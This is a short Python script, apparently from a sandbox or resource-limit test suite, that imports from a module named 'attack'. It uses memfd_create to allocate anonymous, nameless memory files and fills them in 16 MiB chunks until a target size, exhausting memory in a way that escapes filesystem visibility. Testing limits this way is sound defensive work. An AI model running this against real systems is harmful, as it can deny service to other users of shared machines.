"""Files without a name and a folder."""

import contextlib
import os

from attack import GOAL, MIB, call, held

size = 0
with contextlib.suppress(OSError):
    while size < GOAL:
        fd = call("memfd_create", b"m", 0)
        if fd < 0:
            break
        for _ in range(16):
            os.write(fd, bytes(MIB))
        size += 16 * MIB
held(size)
